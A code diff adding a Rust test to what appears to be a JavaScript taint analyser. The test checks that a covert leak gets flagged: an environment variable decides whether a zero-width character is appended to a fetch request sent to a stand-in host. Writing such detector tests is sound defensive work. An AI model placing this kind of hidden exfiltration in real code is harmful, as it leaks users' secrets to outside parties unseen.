@@ -3767,6 +3767,43 @@ mod tests {
         assert!(sev(&three).is_empty() && three.incomplete[0].is_empty());
     }
 
+    /// A parameter written to a property joined by name reaches a decision
+    /// reading that name elsewhere: the join resolves it through the
+    /// parameter's call sites (taint: a parameter fact does not cross a
+    /// join, its up node stands beyond it), so the environment read passed
+    /// to the writer is found (unproven: medium, low) and its twin, the
+    /// writer called with a constant, stays quiet.
+    #[test]
+    fn parameter_joined_by_name_resolves_through_its_callers() {
+        let src = |arg: &str| {
+            format!(
+                "const cfg = {{}};\n\
+                 function remember(v) {{ cfg.mode = v; }}\n\
+                 remember({arg});\n\
+                 function get(o) {{ const m = o.mode; return m; }}\n\
+                 const got = get(globalThis[process.argv[2]]);\n\
+                 const sep = got === \"corp.example.org\" ? \"\\u200B\" : \"\";\n\
+                 fetch(\"https://api.example/v1?q=\" + \"hello\" + sep, {{ method: \"POST\", body: \"{{}}\" }});\n"
+            )
+        };
+        let ps1 = |o: &Output| {
+            o.findings[0]
+                .iter()
+                .filter(|f| f.rule.code().starts_with("PS1"))
+                .map(|f| (f.severity, f.confidence, f.message.clone()))
+                .collect::<Vec<_>>()
+        };
+        let found = analyse_with(&src("process.env.CORP_HOST"), &[]);
+        let f = ps1(&found);
+        assert_eq!(f.len(), 1, "{f:?}");
+        assert_eq!((f[0].0, f[0].1), (Severity::Medium, Confidence::Low));
+        assert!(f[0].2.contains("process.env.CORP_HOST"), "{}", f[0].2);
+        assert!(found.incomplete[0].is_empty(), "{:?}", found.incomplete[0]);
+        let quiet = analyse_with(&src("\"corp.example.org\""), &[]);
+        assert!(ps1(&quiet).is_empty(), "{:?}", ps1(&quiet));
+        assert!(quiet.incomplete[0].is_empty(), "{:?}", quiet.incomplete[0]);
+    }
+
     /// An unproven carrier path longer than `unproven_walk_hops` makes no
     /// finding, but is not dropped silently: the unit is partial (`limit`),
     /// naming the place and the limit. Raised with `--flow-limit`, the same
